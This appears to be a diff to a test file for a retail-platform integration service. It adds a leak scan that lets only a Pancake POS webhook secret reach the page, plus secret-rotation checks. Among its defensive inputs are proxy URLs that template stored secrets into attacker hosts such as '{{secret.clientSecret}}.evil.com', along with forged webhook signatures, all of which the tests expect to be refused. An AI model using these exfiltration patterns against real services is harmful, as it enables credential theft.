@@ -317,10 +317,102 @@ async function consent(url, account) {
   return fetch(new URL('/oauth', url), { method: 'POST', body: form, redirect: 'manual' });
 }
 
+// The one place a secret may reach the page, on purpose: a Pancake POS connection's webhook
+// secret, which the shop owner pastes into Pancake POS (it signs nothing, pancake.md §1.8). The
+// scan lets exactly that through — the x-webhook-secret entry of a pancake connection view's
+// webhookHeaders, in answers of the /api/connections routes (the rotate answer included) and in
+// the stream's `connection` events — and the run then checks that what it let through is that
+// connection's webhook secret and nothing else. Anywhere else the value is a leak like any other.
+const CONNECTION_ROUTE = /^(GET|POST|PATCH|DELETE) \/api\/connections(\/|\?|$)/;
+function withoutPasted(value, pasted) {
+  if (Array.isArray(value)) return value.map((v) => withoutPasted(v, pasted));
+  if (!value || typeof value !== 'object') return value;
+  const out = Object.fromEntries(Object.entries(value).map(([k, v]) => [k, withoutPasted(v, pasted)]));
+  if (value.platform === 'pancake' && typeof value.id === 'string' && 'webhookUrl' in value && Array.isArray(value.webhookHeaders)) {
+    out.webhookHeaders = value.webhookHeaders.map((h) => {
+      if (h?.name !== 'x-webhook-secret' || typeof h.value !== 'string') return withoutPasted(h, pasted);
+      pasted.push({ connection: value.id, value: h.value });
+      return { ...h, value: '[pasted]' };
+    });
+  }
+  return out;
+}
+/** What the scan reads of one answer (label: "METHOD /path"). */
+function scanned(label, r, pasted) {
+  let text = r.text;
+  if (CONNECTION_ROUTE.test(label) && text) {
+    try {
+      text = JSON.stringify(withoutPasted(JSON.parse(text), pasted));
+    } catch {
+      /* not JSON: scanned as it is */
+    }
+  }
+  return `${label} ${r.status} ${JSON.stringify(r.headers)} ${text}`;
+}
+/** What the scan reads of the event stream. */
+function scannedStream(text, pasted) {
+  return text.split('\n\n').map((block) => {
+    const data = /^data: (.*)$/m.exec(block)?.[1];
+    if (/^event: (.*)$/m.exec(block)?.[1] !== 'connection' || !data) return block;
+    try {
+      return `event: connection\ndata: ${JSON.stringify(withoutPasted(JSON.parse(data), pasted))}`;
+    } catch {
+      return block;
+    }
+  }).join('\n\n');
+}
+const secretForms = (v) => new Set([v, encodeURIComponent(v), Buffer.from(v).toString('base64'), Buffer.from(v).toString('base64url')]);
+/** Where each secret (any of its forms) appears in `texts` ([where, text]). */
+function leaksIn(secrets, texts) {
+  const leaks = [];
+  for (const v of secrets) for (const f of secretForms(v)) for (const [where, text] of texts) if (text.includes(f)) leaks.push(`${where}: ${text.slice(0, 160)}`);
+  return leaks;
+}
+/** What the scan let through that is not the connection's webhook secret. */
+const wronglyPasted = (pasted, allowed) => pasted.filter((p) => !allowed.get(p.connection)?.has(p.value));
+
+test('the secret scan lets the pasted webhook header through where the page must see it, and nowhere else', () => {
+  const secret = 'pc-hook-Zm9vYmFyYmF6cXV4MTIzNDU2';
+  const apiKey = 'pancake-api-key-0001';
+  const view = (extra = {}) => ({ id: 'cn_pc', platform: 'pancake', account: { shopId: '1' }, webhookUrl: 'https://x/webhooks/pancakepos?connection=cn_pc', webhookHeaders: [{ name: 'x-store-id', value: '1' }, { name: 'x-webhook-secret', value: secret }], ...extra });
+  const res = (body, headers = {}) => ({ status: 200, headers, text: JSON.stringify(body) });
+  const allowed = new Map([['cn_pc', new Set([secret])]]);
+  const scan = (label, r) => {
+    const pasted = [];
+    const text = label === 'SSE' ? scannedStream(r, pasted) : scanned(label, r, pasted);
+    return { leaks: leaksIn([secret, apiKey], [[label, text]]), wrong: wronglyPasted(pasted, allowed), pasted };
+  };
+  // Let through: the connection view, from every connection route and the stream.
+  for (const [label, body] of [['GET /api/connections', { connections: [view()] }], ['GET /api/connections/cn_pc', { connection: view() }], ['POST /api/connections/cn_pc/webhook-secret', { connection: view() }], ['PATCH /api/connections/cn_pc', { connection: view(), locations: [] }]]) {
+    const r = scan(label, res(body));
+    assert.deepEqual([r.leaks, r.wrong, r.pasted.length], [[], [], 1], label);
+  }
+  const sse = `event: ready\ndata: {}\n\nevent: connection\ndata: ${JSON.stringify({ connection: view() })}\n\n`;
+  assert.deepEqual(scan('SSE', sse).leaks, []);
+  // Caught: the same value anywhere else.
+  const caught = [
+    ['GET /api/records', res({ records: [view()] })],
+    ['GET /api/events/ev_1', res({ event: { body: `x-webhook-secret: ${secret}` } })],
+    ['GET /api/connections', res({ connections: [view({ account: { shopId: '1', note: secret } })] })],
+    ['GET /api/connections', res({ connections: [view({ webhookHeaders: [{ name: 'x-store-id', value: secret }] })] })],
+    ['GET /api/connections', res({ connections: [view({ platform: 'kiotviet' })] })],
+    ['GET /api/connections', res({ connections: [{ ...view(), webhookUrl: undefined }] })],
+    ['GET /api/connections', res({ connections: [view()] }, { 'x-debug': secret })],
+    ['GET /api/connections', res({ connections: [view({ statusError: { message: encodeURIComponent(secret) } })] })],
+    ['POST webhook pancake', res({ connection: view() })],
+    ['SSE', `event: webhook\ndata: ${JSON.stringify({ connection: view() })}\n\n`],
+  ];
+  for (const [label, r] of caught) assert.ok(scan(label, r).leaks.length > 0, `${label} ${typeof r === 'string' ? r : r.text}`);
+  // Caught afterwards: another secret pasted as the webhook secret, or another connection's.
+  assert.equal(scan('GET /api/connections', res({ connections: [view({ webhookHeaders: [{ name: 'x-webhook-secret', value: apiKey }] })] })).wrong.length, 1);
+  assert.equal(scan('GET /api/connections', res({ connections: [view({ id: 'cn_other' })] })).wrong.length, 1);
+});
+
 describe('secrets: one whole sandbox run over every platform', () => {
   let t;
   const seen = []; // every response the page (or a platform) received: status, headers, body
-  const record = (label, r) => seen.push(`${label} ${r.status} ${JSON.stringify(r.headers)} ${r.text}`);
+  const pasted = []; // what the scan let through (the pasted webhook header, see withoutPasted)
+  const record = (label, r) => seen.push(scanned(label, r, pasted));
   const call = async (method, path, opts = {}) => {
     const r = await send(t.url, method, path, { token: 'demo-token', ...opts });
     record(`${method} ${path.split('?')[0]}`, r); // (what was sent is not scanned: only what came back)
@@ -356,20 +448,24 @@ describe('secrets: one whole sandbox run over every platform', () => {
 
     const creds = Object.fromEntries((await call('GET', '/api/sandbox/credentials')).json.platforms.map((p) => [p.platform, p.credentials]));
     seen.pop(); // the sandbox's example credentials are shown by design (sandbox mode only; 404 in production)
-    const webhookSecrets = {
+    // The shop types these in; Pancake POS's is generated by StoreLink and read from the view.
+    const givenSecrets = {
       kiotviet: Buffer.from(randomBytes(18)).toString('base64'),
       haravan: t.server.sandboxes.haravan.sim.info().webhookSecret,
-      pancake: `pc-hook-${randomBytes(9).toString('hex')}`,
       getfly: t.server.sandboxes.getfly.sim.info().webhookSecret,
     };
     const conns = {};
     for (const p of ALL_SANDBOXES) {
       if (p === 'nhanh') continue;
-      const body = { platform: p, credentials: { ...creds[p], ...(webhookSecrets[p] ? { webhookSecret: webhookSecrets[p] } : {}) } };
+      const body = { platform: p, credentials: { ...creds[p], ...(givenSecrets[p] ? { webhookSecret: givenSecrets[p] } : {}) } };
       const r = await call('POST', '/api/connections', { body });
       assert.equal(r.status, 201, `${p}: ${r.text.slice(0, 300)}`);
       conns[p] = r.json.connection;
     }
+    const pastedSecret = (c) => c.webhookHeaders?.find((h) => h.name === 'x-webhook-secret')?.value;
+    const webhookSecrets = { ...givenSecrets, pancake: pastedSecret(conns.pancake) };
+    assert.ok(webhookSecrets.pancake?.length >= 24, 'Pancake POS: a generated webhook secret to paste');
+    const pancakeSecrets = new Set([webhookSecrets.pancake]); // every one the connection had (rotation below)
     // Nhanh.vn through its consent page.
     {
       const r = await call('POST', '/api/connections', { body: { platform: 'nhanh', credentials: { account: creds.nhanh.account } } });
@@ -416,6 +512,17 @@ describe('secrets: one whole sandbox run over every platform', () => {
     assert.ok((await nh.emitWebhook({ url: `${t.url}${hookUrl('nhanh')}`, event: 'productUpdate', id: nh.truth('products')[0].id })).status < 300);
     const pc = t.server.sandboxes.pancake.sim;
     assert.ok((await pc.emitWebhook({ url: `${t.url}${hookUrl('pancake')}`, entity: 'orders', id: pc.truth('orders')[0].id, headers: { 'x-webhook-secret': webhookSecrets.pancake } })).status < 300);
+    // Rotation: the answer carries the new secret (let through), the old one is refused from then on.
+    const rotated = await call('POST', `/api/connections/${conns.pancake.id}/webhook-secret`);
+    assert.equal(rotated.status, 200, rotated.text);
+    const oldPancake = webhookSecrets.pancake;
+    webhookSecrets.pancake = pastedSecret(rotated.json.connection);
+    assert.ok(webhookSecrets.pancake && webhookSecrets.pancake !== oldPancake);
+    pancakeSecrets.add(webhookSecrets.pancake);
+    const pcBody = fixture('pancake', 'webhook_order');
+    const pcHeaders = (secret) => ({ 'content-type': 'application/json', 'x-store-id': conns.pancake.account.shopId, 'x-webhook-secret': secret });
+    assert.equal((await deliver('pancake', pcBody, pcHeaders(oldPancake))).status, 401, 'the old Pancake POS secret is refused');
+    assert.equal((await deliver('pancake', pcBody, pcHeaders(webhookSecrets.pancake))).status, 200, 'the new one is accepted');
     const gfForm = new URLSearchParams({ event: 'customer.deleted', secret_key: webhookSecrets.getfly, 'data[account_id]': String(t.server.sandboxes.getfly.sim.truth('customers')[0].id), domain: 'demo.getflycrm.com', uid: 'gf-uid-1' });
     assert.equal((await deliver('getfly', gfForm.toString(), { 'content-type': 'application/x-www-form-urlencoded' })).status, 200, 'getfly webhook');
 
@@ -428,7 +535,7 @@ describe('secrets: one whole sandbox run over every platform', () => {
       const wrong = Object.fromEntries(info.credentials.filter((f) => f.secret).map((f) => [f.key, `wrong-${f.key}-0000`]));
       const r = await call(p === 'nhanh' ? 'POST' : 'PATCH', p === 'nhanh' ? `/api/connections/${conns[p].id}/verify` : `/api/connections/${conns[p].id}`, { body: p === 'nhanh' ? undefined : { credentials: { ...creds[p], ...wrong } } });
       if (p !== 'nhanh') assert.ok(r.status >= 400, `${p}: wrong credentials refused (${r.status})`);
-      if (p !== 'nhanh') await call('PATCH', `/api/connections/${conns[p].id}`, { body: { credentials: { ...creds[p], ...(webhookSecrets[p] ? { webhookSecret: webhookSecrets[p] } : {}) } } });
+      if (p !== 'nhanh') await call('PATCH', `/api/connections/${conns[p].id}`, { body: { credentials: { ...creds[p], ...(givenSecrets[p] ? { webhookSecret: givenSecrets[p] } : {}) } } });
     }
     nh.revokeTokens();
     const revoked = await waitRun(poll, (await call('POST', `/api/connections/${conns.nhanh.id}/sync`, { body: { entity: 'products' } })).json.run.id);
@@ -438,6 +545,7 @@ describe('secrets: one whole sandbox run over every platform', () => {
     await deliver('kiotviet', kvBody.replace('d42dcce1', 'bad00001'), { 'content-type': 'application/json', 'x-hub-signature': kiotvietSignature(kvBody, 'not-the-secret') });
     await deliver('sapo', '{"id":1}', { 'content-type': 'application/json', 'x-sapo-topic': 'products/update', 'x-sapo-hmac-sha256': hmacBase64('forged', '{"id":1}'), 'x-sapo-shop-domain': 'demoshop.mysapo.net' });
     await deliver('getfly', gfForm.toString().replace(encodeURIComponent(webhookSecrets.getfly), 'guess'), { 'content-type': 'application/x-www-form-urlencoded' });
+    assert.equal((await deliver('pancake', pcBody.replace('"shop_id"', '"note": "x", "shop_id"'), pcHeaders(oldPancake))).status, 401, 'still refused after a reconnect');
     for (const [p, url] of [['kiotviet', 'https://{{secret.clientSecret}}.evil.com/'], ['sapo', 'https://{{secret.apiSecret}}.mysapo.net.evil.com/'], ['haravan', 'https://apis.haravan.com.{{secret.accessToken}}.x/'], ['getfly', 'https://{{secret.apiKey}}.evil.com/'], ['misa', 'https://x.evil/?k={{secret.secretKey}}']]) {
       const r = await call('POST', `/api/proxy/${conns[p].id}`, { body: { method: 'GET', url, query: [], headers: [], body: '' } });
       assert.equal(r.status, 403, `${p}: ${r.text}`);
@@ -462,8 +570,8 @@ describe('secrets: one whole sandbox run over every platform', () => {
     await new Promise((r) => setTimeout(r, 100));
     ac.abort();
     await reading;
-    seen.push(`SSE ${streamed}`);
-    for (const r of poll.seen) seen.push(`${r.method} ${r.path} ${r.status} ${JSON.stringify(r.headers)} ${r.text}`);
+    seen.push(`SSE ${scannedStream(streamed, pasted)}`);
+    for (const r of poll.seen) seen.push(scanned(`${r.method} ${r.path}`, r, pasted));
 
     // Every secret value of the run: credentials, tokens the simulators issued and the proxy
     // kept, webhook secrets, app secrets, the vault key, store tokens.
@@ -479,6 +587,7 @@ describe('secrets: one whole sandbox run over every platform', () => {
       for (const [k, v] of Object.entries(t.server.services.secretsOf(row))) if (!plain.has(k) && !['companyCode', 'environment'].includes(k)) add(v, `${p}.vault.${k}`);
       add(webhookSecrets[p], `${p}.webhookSecret`);
     }
+    for (const v of pancakeSecrets) add(v, 'pancake.webhookSecret (current and rotated out)');
     for (const p of ['sapo', 'haravan']) for (const [k, v] of Object.entries(t.server.sandboxes[p].sim.info().credentials ?? {})) if (!['store', 'shop'].includes(k)) add(v, `${p}.sim.${k}`);
     add(nh.info().accessToken, 'nhanh.sim.readyToken');
     add(nh.info().verifyToken, 'nhanh.sim.verifyToken');
@@ -488,19 +597,19 @@ describe('secrets: one whole sandbox run over every platform', () => {
     add('demo-token', 'store token');
     const secretList = [...secretSet.keys()];
     tc.diagnostic(`secrets collected: ${[...secretSet.values()].join(', ')}`);
-    const forms = (v) => new Set([v, encodeURIComponent(v), Buffer.from(v).toString('base64'), Buffer.from(v).toString('base64url')]);
     // At rest and in what the store keeps: records, events, runs, checkpoints (ciphertext for connections).
     const tables = {};
     for (const name of ['records', 'events', 'runs', 'connections', 'checkpoints']) tables[name] = (await t.server.db.all(`SELECT * FROM ${name}`)).map((r) => JSON.stringify(r));
     const logs = t.logs.lines;
-    const leaks = [];
-    for (const s of secretList) {
-      for (const f of forms(s)) {
-        for (const r of seen) if (r.includes(f)) leaks.push(`response: ${r.slice(0, 160)}`);
-        for (const l of logs) if (l.includes(f)) leaks.push(`log: ${l.slice(0, 160)}`);
-        for (const [name, rows] of Object.entries(tables)) for (const row of rows) if (row.includes(f)) leaks.push(`${name}: ${row.slice(0, 160)}`);
-      }
-    }
+    const leaks = leaksIn(secretList, [
+      ...seen.map((r) => ['response', r]),
+      ...logs.map((l) => ['log', l]),
+      ...Object.entries(tables).flatMap(([name, rows]) => rows.map((row) => [name, row])),
+    ]);
+    // What was let through: the Pancake POS connection's own webhook secret, and only that.
+    tc.diagnostic(`secrets: the pasted webhook header was let through ${pasted.length} times (connection views and the rotate answer)`);
+    assert.ok(pasted.length >= 3, 'the scan saw the pasted header where the page must see it');
+    assert.deepEqual(wronglyPasted(pasted, new Map([[conns.pancake.id, pancakeSecrets]])), []);
     const records = tables.records.length;
     tc.diagnostic(`secrets: ${secretList.length} secret values (×4 forms) over ${seen.length} responses (${Math.round(seen.reduce((n, s) => n + s.length, 0) / 1024)} KiB incl. SSE and exports), ${logs.length} log lines, ${records} records, ${tables.events.length} events, ${tables.runs.length} runs; ${runs.length} sync runs on ${Object.keys(conns).length} platforms; leaks ${leaks.length}`);
     assert.ok(secretList.length >= 20, `enough secrets collected (${secretList.length})`);
